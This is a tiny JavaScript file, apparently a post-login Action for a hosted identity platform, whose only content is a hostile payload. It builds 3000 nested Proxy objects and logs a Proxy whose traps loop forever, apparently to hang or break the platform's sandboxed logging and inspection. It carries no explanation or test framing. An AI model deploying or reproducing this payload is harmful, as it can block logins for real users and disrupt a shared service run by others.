exports.onExecutePostLogin = async (event, api) => {
  let p = {};
  for (let i = 0; i < 3000; i++) p = new Proxy(p, {});
  console.log(p, new Proxy([], { get() { for (;;); }, ownKeys() { for (;;); }, getPrototypeOf() { for (;;); } }));
};
